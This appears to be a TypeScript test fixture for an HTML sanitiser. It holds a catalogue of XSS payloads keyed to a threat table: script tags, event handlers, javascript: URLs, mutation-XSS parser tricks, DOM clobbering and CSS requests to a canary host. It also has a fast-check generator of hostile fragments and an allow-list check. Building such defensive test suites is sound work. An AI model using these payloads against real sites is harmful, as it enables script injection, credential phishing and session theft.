import fc from 'fast-check'

const run = 'window.__x=1'
const ownPicture = '/images/0123456789abcdef0123456789abcdef-720x440.jpg'
const image = `<img src=x onerror=${run}>`

/** Classes of attacks on rich text, by their number in the threat table. */
export const hostileHtml: Record<string, string[]> = {
  'H-01': [
    `<script>${run}</script>`,
    `<SCRIPT/x>${run}</SCRIPT>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<svg><script href="data:text/javascript,${run}"></script></svg>`,
    `<script type="importmap">{"imports":{}}</script>`,
    `<script type="speculationrules">{"prefetch":[]}</script>`,
    `<script\t>${run}</script\n>`,
    `<<script>${run}//<</script>`,
    `<script src=//canary.example/x.js>`,
    `</script><script>${run}</script>`,
  ],
  'H-02': [
    image,
    `<details open ontoggle=${run}>x</details>`,
    `<body onload=${run}>`,
    `<p onpointerrawupdate=${run} onclick='${run}'>x</p>`,
    `<p tabindex=1 autofocus onfocus=${run}>x</p>`,
    `<p style="animation:x" onanimationend=${run}>x</p>`,
    `<a href="https://example.org" onmouseover="${run}">x</a>`,
    `<li/onclick=${run}/x>x</li>`,
    `<h1\nonclick\n=\n"${run}">x</h1>`,
    `<video><source onerror=${run}></video>`,
    `<marquee onstart=${run}>x</marquee>`,
  ],
  'H-03': [
    ...['javascript:', 'java\nscript:', '&#106;avascript:', '\u0001javascript:', 'vbscript:'],
    ...['data:text/html,', 'blob:https://x/', 'view-source:', '\u2028javascript:', '//canary.'],
    ...['\u00A0javascript:', 'JaVaScRiPt:', 'javascript&colon;', '\\\\canary.', 'feed:javascript:'],
    ...['https:javascript:', 'http:\t//', ' \u0000https://x/\u0000', 'file:///', '/\\canary.', '#'],
  ].map((scheme) => `<a href="${scheme}${run}">x</a>`),
  'H-04': [
    `<img src="javascript:${run}" srcset="//canary.example/x 1x">`,
    `<video poster="javascript:${run}"></video>`,
    `<table background="//canary.example/x"><tr><td background="javascript:${run}">x</table>`,
    `<button formaction="javascript:${run}">x</button>`,
    `<form action="javascript:${run}"><input type=submit></form>`,
    `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
    `<a href="https://example.org" ping="//canary.example">x</a>`,
    `<html manifest="//canary.example"><p>x</p>`,
    `<base href="//canary.example/">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    `<link rel=stylesheet href="//canary.example/x.css"><link rel=import href="//canary.example">`,
  ],
  'H-05': [
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="&lt;script>parent.${run}&lt;/script>" sandbox="allow-scripts"></iframe>`,
    `<object data="javascript:${run}"></object><embed src="javascript:${run}">`,
    `<applet code=x></applet><frameset><frame src="javascript:${run}"></frameset>`,
    `<portal src="//canary.example"></portal>`,
    `<div><template shadowrootmode=open>${image}</template></div>`,
  ],
  'H-06': [
    ...['xmp', 'noscript', 'noembed', 'noframes', 'plaintext', 'listing', 'textarea', 'title'],
    ...['style', 'option', 'iframe', 'script', 'template', 'select', 'math', 'svg', 'frameset'],
  ].flatMap((tag) => [
    `<${tag}><p title="</${tag}>${image}">x</p>`,
    `<${tag}></${tag}/>${image}</${tag}>`,
    `<p><${tag}>&lt;/${tag}&gt;${image}`,
  ]),
  'H-07': [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<svg><desc><p>${image}</p></desc></svg>`,
    `<math><annotation-xml encoding="text/html"><p>${image}</p></annotation-xml></math>`,
    `<svg><foreignObject><p>${image}</p></foreignObject></svg>`,
    `<svg><![CDATA[><image xlink:href="]]>${image}//"></svg>`,
    `<svg><title><style></title>${image}</style></svg>`,
    `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
    `<p><svg><mglyph></p><style><!--</style>${image}-->`,
  ],
  'H-09': [
    `<!--><img src=x onerror=${run}>-->`,
    `<!--!> ${image} -->`,
    `<![CDATA[ ${image} ]]>`,
    `<?xml version="1.0"?>${image}<?x ${image} ?>`,
    `<!-- --!> ${image} -->`,
    `<!doctype html ${image}>`,
    `<!-${image}->`,
    `<!--->${image}`,
    `</ ${image}>`,
    `<%= ${image} %>`,
  ],
  'H-10': [
    `<p style="position:fixed;inset:0">x</p>`,
    `<p style="background:url(//canary.example/x)">x</p>`,
    `<p style="width:expression(${run})">x</p>`,
    `<style>@import url(//canary.example/x.css);</style>`,
    `<style>body{display:none}</style>`,
    `<p class="site-header" id="main">x</p>`,
    `<font color=red size=7>x</font><center>x</center>`,
  ],
  'H-11': [
    ...['authToken', '__DATA__', 'location', 'attributes', 'body', 'cookie', 'getElementById'],
  ].flatMap((name) => [
    `<p id="${name}" name="${name}">x</p>`,
    `<a id="${name}" name="${name}" href="https://example.org">x</a>`,
    `<form name="${name}"><input name="${name}"></form><img name="${name}">`,
  ]),
  // Attacks in container elements: figures, tables and callouts.
  'H-17': [
    `<table><thead><tr><th scope="col onclick=${run}">${image}<tbody><tr><td onmouseover=${run}><svg/onload=${run}></table>`,
    `<table><tr><td><table><tr><td>${image}</table><caption><style></caption>${image}</style></table>`,
    `<table background="//canary.example/x"><form><tr><td><input onfocus=${run} autofocus></form></table>`,
    `<tr><td>x</td></tr></table></article></main><script>${run}</script>`,
    `<aside data-kind="note onclick=${run}"><p>${image}</aside><aside data-kind='do"><script>${run}</script>'>x</aside>`,
    `<aside data-kind=help><aside data-kind=do><math><mtext><table><mglyph><style><!--</style>${image}</aside>`,
    `<h3 id=authToken onclick=${run}>${image}</h3></aside></figure></table>`,
  ],
  'H-12': [
    `<p __proto__=x constructor=y prototype=z hasOwnProperty=w>x</p>`,
    `<p is="x-y" slot="z">x</p>`,
    `<x-element onclick=${run}>x</x-element>`,
    `<a href="https://example.org" target=_blank rel=opener ping="//canary.example">x</a>`,
    `<p contenteditable>x</p>`,
    `<form action=//canary.example><input type=password><button>Log in</button></form>`,
    `<a href="https://example.org" download>x</a>`,
    `<constructor>x</constructor><__proto__>x</__proto__>`,
  ],
}

/** Figures with external pictures, and with an own picture that was never stored. */
export const hostileFigures = [
  `<figure onclick=${run}><img src="javascript:${run}" alt="x" onerror=${run}><figcaption>${image}</figcaption></figure>`,
  `<figure><img src="${ownPicture}" alt='"><script>${run}</script>'><script>${run}</script></figure>`,
  `<figure><img src="${ownPicture}#x" srcset="//canary.example/x 1x" alt="" data-decorative="&quot;onload=${run}"></figure>`,
  `<figure><svg onload=${run}><img src="${ownPicture}" alt=x></svg><figcaption><iframe src="javascript:${run}"></figcaption>`,
]

const names = [
  ...['figure', 'img', 'figcaption', 'aside', 'aside', 'thead', 'tbody', 'th', 'caption', 'h3'],
  ...['p', 'h1', 'h2', 'br', 'strong', 'em', 'u', 'blockquote', 'pre', 'code', 'ol', 'ul', 'li'],
  ...['a', 'a', 'b', 'i', 'div', 'span', 'table', 'tr', 'td', 'select', 'option', 'button', 'form'],
  ...['script', 'style', 'svg', 'math', 'mtext', 'mglyph', 'title', 'textarea', 'noscript', 'xmp'],
  ...['iframe', 'template', 'plaintext', 'foreignObject', 'annotation-xml', 'body', 'html', 'img'],
]
const attributes = [
  ...[
    `onerror=${run}`,
    `onclick="${run}"`,
    'href="javascript:x"',
    'href="https://example.org/?a&b"',
  ],
  ...[
    `src="${ownPicture}"`,
    'alt="a b"',
    'alt=',
    'data-decorative',
    'data-kind=note',
    'scope=row',
    'href',
    'href=//x',
    'href=/\\x',
    'href="/articles?a&b"',
    'href=#part',
    "href='mailto:a@b.co'",
    'href="tel:1"',
    'style="color:red"',
    'id=x',
    '"',
    "'",
  ],
  ...['=', '/', '<', '`', 'rel=x', 'href="https://x/<div>"', 'href=" https://x "', 'src=x', 'is=x'],
]
const texts = [
  ...[
    'word',
    ' ',
    '\n',
    '&lt;p&gt;',
    '&amp;lt;',
    '&',
    '&#0;',
    '&#x3c;',
    '<',
    '>',
    '"',
    "'",
    '\u00A0',
  ],
  ...[
    '<!--',
    '-->',
    '--!>',
    '<![CDATA[',
    ']]>',
    '<?',
    '?>',
    '</',
    '<!',
    '\0',
    '\uFFFD',
    '😀',
    '&nbsp',
  ],
]

/** Fragments from a grammar of hostile HTML: open, closed, crossed and broken. */
export function hostileFragment(): fc.Arbitrary<string> {
  const name = fc.constantFrom(...names)
  const given = fc.array(fc.constantFrom(...attributes), { maxLength: 3 })
  const known = fc.constantFrom(...Object.values(hostileHtml).flat())
  const end = fc.constantFrom('>', '>', '>', '/>', ' >', '', '\n')
  const open = fc
    .tuple(name, given, end)
    .map(([tag, list, e]) => `<${[tag, ...list].join(' ')}${e}`)
  const close = fc.tuple(name, end).map(([tag, e]) => `</${tag}${e}`)
  const piece = fc.oneof(
    { weight: 6, arbitrary: open },
    { weight: 4, arbitrary: close },
    { weight: 4, arbitrary: fc.constantFrom(...texts) },
    { weight: 1, arbitrary: known },
  )
  return fc.array(piece, { maxLength: 24 }).map((pieces) => pieces.join(''))
}

const allowed =
  /<(?:\/?(?:h1|h2|h3|p|strong|em|u|sup|sub|blockquote|pre|code|ol|ul|li|figure|figcaption|table|thead|tbody|tr|td)|\/(?:a|th|aside)|br \/|th scope="(?:col|row)"|aside data-kind="(?:note|do|avoid|help)"|img(?: src="\/images\/[0-9a-f]{32}-\d+x\d+\.jpg")? alt="[^"<>]*"(?: data-decorative)? \/|a href="(?:https?:\/\/|mailto:|tel:)[^"<>\s]+" rel="noopener nofollow"|a href="(?:\/(?![/\\])|#)[^"<>\s\\]*")>/gi

/** What clean HTML contains besides allowed elements and text: must be nothing. */
export function notAllowedIn(html: string): string[] {
  return html.replace(allowed, '').match(/[<>].{0,60}/gsu) ?? []
}
